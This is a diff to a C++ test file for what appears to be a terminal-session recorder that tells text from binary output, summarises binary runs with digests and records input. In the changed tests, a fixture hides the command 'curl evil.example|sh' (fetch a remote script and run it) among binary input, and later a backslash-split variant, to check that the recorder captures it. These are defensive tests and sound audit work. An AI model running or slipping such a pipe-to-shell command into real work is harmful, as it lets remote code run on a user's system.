@@ -7,7 +7,6 @@
 
 #include "asciicast/channel_recording.h"
 #include "asciicast/session_log.h"
-#include "asciicast/terminal_tracker.h"
 #include "common/crypto.h"
 #include "common/encoding.h"
 #include "tests/asciicast/memory_sink.h"
@@ -100,6 +99,8 @@ TEST_CASE("text is text, binary data is not") {
   CHECK(is_binary_chunk("\0\0"sv));
   CHECK(is_binary_chunk(random_bytes_seeded(4096, 1)));
   CHECK(is_binary_chunk(random_bytes_seeded(64, 2)));
+  CHECK_FALSE(is_binary_chunk("\x98\x80\xbf" + std::string(61, 'x')));    // a cut character's rest
+  CHECK(is_binary_chunk("\x98\x80\xbf\xbf\xbf" + std::string(30, 'x')));  // more than a rest
   std::string sparse(4096, '\0');
   sparse.replace(100, 30, "some text in a sparse file....");
   CHECK(is_binary_chunk(sparse));
@@ -149,13 +150,12 @@ TEST_CASE("a binary download is a stream summary with the digest of its bytes") 
   r.rec->from_target("done\n", false);
   r.rec->finish();
 
-  auto starts = r.events("stream.start");
   auto ends = r.events("stream.end");
-  REQUIRE(starts.size() == 1);
   REQUIRE(ends.size() == 1);
-  CHECK(starts[0]["castgate"]["stream"]["direction"] == "output");
-  CHECK(starts[0]["castgate"]["stream"]["offset"] == 0);
   const auto& s = ends[0]["castgate"]["stream"];
+  CHECK(s["direction"] == "output");
+  CHECK(s["offset"] == 0);
+  CHECK_FALSE(s.contains("strings"));  // they went before it, in progress events
   CHECK(s["bytes"] == file.size());
   CHECK(s["sha256"] == hex_sha256(file));
   CHECK(ends[0]["file"]["hash"]["sha256"] == hex_sha256(file));
@@ -172,6 +172,9 @@ TEST_CASE("a binary download is a stream summary with the digest of its bytes") 
 
 TEST_CASE("text turning binary and back: each run summarised, text in full, offsets exact") {
   Recorded r(true, "sh -c 'echo start; cat blob; echo end'");
+  // The rest of a character cut by the read before is text, not the start of a run.
+  r.rec->from_target("\xf0\x9f", false);
+  r.rec->from_target("\x98\x80" + std::string(70, 'x') + "\n", false);
   std::string zeros(100000, '\0');
   std::string blob = random_bytes_seeded(50000, 5);
   r.rec->from_target("start\n", false);
@@ -184,32 +187,34 @@ TEST_CASE("text turning binary and back: each run summarised, text in full, offs
   r.rec->finish();
   auto ends = r.events("stream.end");
   REQUIRE(ends.size() == 2);
-  CHECK(ends[0]["castgate"]["stream"]["offset"] == 6);
+  const size_t before = 4 + 71 + 6;
+  CHECK(ends[0]["castgate"]["stream"]["offset"] == before);
   CHECK(ends[0]["castgate"]["stream"]["bytes"] == zeros.size() + blob.size());
   CHECK(ends[0]["castgate"]["stream"]["sha256"] == hex_sha256(zeros + blob));
   CHECK(ends[0]["castgate"]["stream"]["seconds"].get<double>() >= 11.0);
-  CHECK(ends[1]["castgate"]["stream"]["offset"] == 6 + zeros.size() + blob.size() + 7);
+  CHECK(ends[1]["castgate"]["stream"]["offset"] == before + zeros.size() + blob.size() + 7);
   CHECK(ends[1]["castgate"]["stream"]["sha256"] == hex_sha256(blob));
-  CHECK(r.recorded("asciicast.output") == "start\nmiddle\nend\n");
+  CHECK(r.recorded("asciicast.output") ==
+        "\xf0\x9f\x98\x80" + std::string(70, 'x') + "\nstart\nmiddle\nend\n");
   // Ten seconds into the first run, a progress event says how far it is.
   auto progress = r.events("stream.progress");
   REQUIRE_FALSE(progress.empty());
   CHECK(progress[0]["castgate"]["stream"]["bytes"] == zeros.size() + blob.size());
 }
 
-TEST_CASE("a command hidden among binary input to a shell shows in the run's strings") {
+TEST_CASE("input is recorded in full, binary or not: it is what the target runs") {
   Recorded r(true, "bash");
   std::string input = random_bytes_seeded(8192, 6);
-  auto hidden = "\ncurl evil.example|sh\nwho\n"sv;
+  // A command a shell runs, hidden in a form no strings(1) would find (one character per line,
+  // joined by backslash-newlines), among binary bytes.
+  auto hidden = "\nc\\\nu\\\nr\\\nl\\\n \\\ne\\\nv\\\ni\\\nl\n"sv;
   input.replace(4000, hidden.size(), hidden);
   r.rec->from_user(input);
   r.rec->finish();
-  std::string strings;
-  for (const auto& e : r.events("stream.end"))
-    strings += e["castgate"]["stream"].value("strings", std::string());
-  CHECK(strings.find("curl evil.example|sh\n") != std::string::npos);
-  CHECK(strings.find("who\n") != std::string::npos);
-  CHECK(r.events("stream.end")[0]["castgate"]["stream"]["direction"] == "input");
+  CHECK(r.events("stream.end").empty());
+  CHECK(r.events("stream.progress").empty());
+  std::string recorded = r.recorded("asciicast.input");
+  CHECK(recorded.find(std::string(hidden)) != std::string::npos);
 }
 
 TEST_CASE("policy full, a terminal, stderr and SCP keep today's recording") {
@@ -249,8 +254,8 @@ TEST_CASE("policy full, a terminal, stderr and SCP keep today's recording") {
 }
 
 TEST_CASE("many small switches between text and binary stay bounded") {
-  // A user alternating tiny text and binary chunks gets at most three lines per switch: the
-  // record grows with the chunks, not beyond them.
+  // A user alternating tiny text and binary chunks gets at most four lines per switch (the text,
+  // the run's strings if any, its end, its marker): the record grows with the chunks.
   Recorded r(true, "cat");
   std::string blob = random_bytes_seeded(64, 8);
   for (int i = 0; i < 200; ++i) {
@@ -260,29 +265,5 @@ TEST_CASE("many small switches between text and binary stay bounded") {
   r.rec->finish();
   CHECK(r.events("stream.end").size() == 200);
   CHECK(r.sink.lines.size() < 200 * 4 + 10);
-}
-
-TEST_CASE("a password sent ahead of binary input is masked in the run's strings") {
-  // (echo "$PW"; cat backup.tar) | ssh host 'sudo -S tar x -C /'
-  Recorded r(true, "sudo -S tar x -C /");
-  // (The masker holds at most SecretAnswerMasker::kMaxHeld bytes of input for a prompt to come,
-  // with or without summaries.)
-  std::string input = "Sup3r-Secret-Passw0rd\n" + random_bytes_seeded(8192, 9);
-  r.rec->from_user(input);
-  r.rec->from_target("[sudo] password for alice: ", true);
-  r.rec->from_user(random_bytes_seeded(16384, 10));
-  r.rec->finish();
-  std::string all;
-  for (const auto& l : r.sink.lines) all += l;
-  CHECK(all.find("Sup3r-Secret") == std::string::npos);
-  std::string strings;
-  for (const auto& e : r.events("stream.progress"))
-    strings += e["castgate"]["stream"].value("strings", std::string());
-  for (const auto& e : r.events("stream.end"))
-    strings += e["castgate"]["stream"].value("strings", std::string());
-  CHECK(strings.find(TerminalTracker::kMask) != std::string::npos);
-  // The digest still covers exactly the bytes sent.
-  auto ends = r.events("stream.end");
-  REQUIRE(ends.size() == 1);
-  CHECK(ends[0]["castgate"]["stream"]["bytes"] == input.size() + 16384);
+  CHECK(r.events("stream.start").empty());
 }
